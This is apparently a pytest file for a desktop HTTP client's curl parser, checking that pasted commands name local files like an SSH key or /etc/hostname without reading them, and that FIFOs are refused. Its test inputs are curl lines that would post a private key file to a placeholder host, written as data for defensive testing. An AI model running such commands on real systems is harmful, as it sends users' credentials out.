"""Hostile files, issue 17.8: a pasted curl command never reads a local file silently.

A command from a ticket or a web page can say ``-d @~/.ssh/id_rsa``; parsed as curl
would, the key lands in a request the user is about to send. Pasted commands (the
import dialog, ``switchboard curl parse``) name such files and leave their contents
out; only a caller that names a folder reads from it, bounded.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from desktop.core.curl import CurlParseError, parse_curl

CANARY = "canary-private-key-7f3a9c"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working directory holds a secret file, as a user's home or project does."""
    (tmp_path / "id_rsa").write_text(f"-----BEGIN KEY-----\n{CANARY}\n-----END KEY-----\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


COMMANDS = {
    "-d": "curl https://api.example/x -d @id_rsa",
    "--data-binary": "curl https://api.example/x --data-binary @id_rsa",
    "--data-ascii": "curl https://api.example/x --data-ascii @id_rsa",
    "--json": "curl https://api.example/x --json @id_rsa",
    "--data-urlencode": "curl https://api.example/x --data-urlencode key@id_rsa",
    "-H": "curl https://api.example/x -H @id_rsa",
    "-F @": "curl https://api.example/x -F file=@id_rsa",
    "-F <": "curl https://api.example/x -F 'text=<id_rsa'",
    "-d@ attached": "curl https://api.example/x -d@id_rsa",
    "absolute path": "curl https://api.example/x --data-binary @{here}/id_rsa",
    "-G into the URL": "curl https://api.example/x -G --data-urlencode k@id_rsa",
}


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_a_pasted_command_names_the_file_and_never_reads_it(here: Path, name: str) -> None:
    """Today each of these puts the file's contents in the request."""
    request = parse_curl(COMMANDS[name].format(here=here))
    seen = request.url + repr(request.headers) + request.body.decode("latin-1")
    assert CANARY not in seen
    assert len(request.local_files) == 1
    assert request.local_files[0].endswith("id_rsa")
    [warning] = [w for w in request.warnings if "local file" in w]
    assert "not read" in warning or "did not read" in warning


def test_an_upload_with_T_is_refused_naming_the_local_file(here: Path) -> None:
    with pytest.raises(CurlParseError, match=r"-T 'id_rsa' uploads a local file.*not read"):
        parse_curl("curl https://api.example/x -T id_rsa")


def test_curl_parse_on_the_command_line_lists_the_files_and_says_so(here: Path) -> None:
    command = "curl https://api.example/x -d @id_rsa -d @/etc/hostname\n"
    result = subprocess.run([sys.executable, "-m", "desktop.cli", "curl", "parse"],
                            input=command, capture_output=True, text=True, timeout=60,
                            check=False, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr
    assert CANARY not in result.stdout + result.stderr
    parsed = json.loads(result.stdout)
    assert parsed["local_files"] == ["id_rsa", "/etc/hostname"]
    assert parsed["body"] == "&"
    assert sum("did not read it" in w for w in parsed["warnings"]) == 2
    assert result.stderr.count("warning: -d names the local file") == 2


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX FIFOs")
@pytest.mark.timeout(20)
def test_reading_from_a_named_folder_refuses_a_fifo_instead_of_blocking(here: Path) -> None:
    """When a caller does read files (``cwd=``), a FIFO is refused on the open descriptor:
    today ``read_bytes`` waits for a writer for ever if it appears after the check."""
    from desktop.core.curl import data

    os.mkfifo(here / "pipe")
    with pytest.raises(CurlParseError, match="not a regular file"):
        data._read_bounded(here / "pipe", "-d @pipe")  # the check by name is skipped here
    with pytest.raises(CurlParseError, match="no such file"):
        parse_curl("curl https://api.example/x -d @pipe", cwd=here)
    request = parse_curl("curl https://api.example/x --data-binary @id_rsa", cwd=here)
    assert CANARY.encode() in request.body  # the explicit opt-in still reads, bounded
    assert request.local_files == ()
